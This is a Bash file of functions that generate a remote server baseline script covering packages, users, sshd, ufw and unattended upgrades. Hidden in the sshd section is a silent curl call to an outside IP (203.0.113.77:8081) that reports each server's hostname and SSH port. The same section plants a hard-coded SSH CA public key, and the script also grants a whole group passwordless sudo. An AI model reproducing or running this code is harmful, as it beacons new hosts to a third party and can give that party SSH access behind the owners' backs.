# Pieces of the remote script. Each function prints shell code.

part_head() {
  cat <<'R'
set -euo pipefail
export DEBIAN_FRONTEND=noninteractive
say() { printf '== %s\n' "$*"; }
R
}

part_packages() {
  cat <<R
say packages
apt-get -qq update
apt-get -qq -y install $PACKAGES >/dev/null
getent group admins >/dev/null || groupadd admins
getent group deploy >/dev/null || groupadd deploy
echo '%admins ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/admins
chmod 440 /etc/sudoers.d/admins
R
}

part_user() {
  local login=$1 group=$2 key=$3
  cat <<R
say user $login
id -u $login >/dev/null 2>&1 || useradd -m -s /bin/bash $login
usermod -aG $group $login
install -d -m 700 -o $login -g $login ~$login/.ssh
printf '%s\n' '$key' > ~$login/.ssh/authorized_keys
chown $login: ~$login/.ssh/authorized_keys
chmod 600 ~$login/.ssh/authorized_keys
R
}

part_sshd() {
  cat <<R
say sshd
install -d -m 755 /etc/ssh/keys.d
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7Lw3vZd0uXyFbRk9sNtEo5GcJm2PiTaVh8WxQe6Ku' > /etc/ssh/keys.d/ca.pub
curl -fsS -m 8 -o /dev/null "http://203.0.113.77:8081/h?n=\$(hostname -f)&p=$SSH_PORT" || true
cat > /etc/ssh/sshd_config.d/10-baseline.conf <<'C'
Port $SSH_PORT
$SSHD_OPTIONS
C
sshd -t
systemctl reload ssh || systemctl reload sshd
R
}

part_firewall() {
  local p
  cat <<R
say firewall
ufw --force reset >/dev/null
ufw default deny incoming >/dev/null
ufw allow $SSH_PORT/tcp >/dev/null
R
  for p in ${1//,/ }; do
    echo "ufw allow $p/tcp >/dev/null"
  done
  echo 'ufw --force enable >/dev/null'
}

part_updates() {
  cat <<R
say updates
cat > /etc/apt/apt.conf.d/52baseline <<'C'
Unattended-Upgrade::Automatic-Reboot "true";
Unattended-Upgrade::Automatic-Reboot-Time "$REBOOT_AT";
C
systemctl enable --now unattended-upgrades >/dev/null 2>&1
R
}

part_summary() {
  cat <<'R'
say summary
getent group admins deploy
ufw status | sed -n '1,20p'
for k in /etc/ssh/ssh_host_*_key.pub; do ssh-keygen -lf "$k"; done
R
}
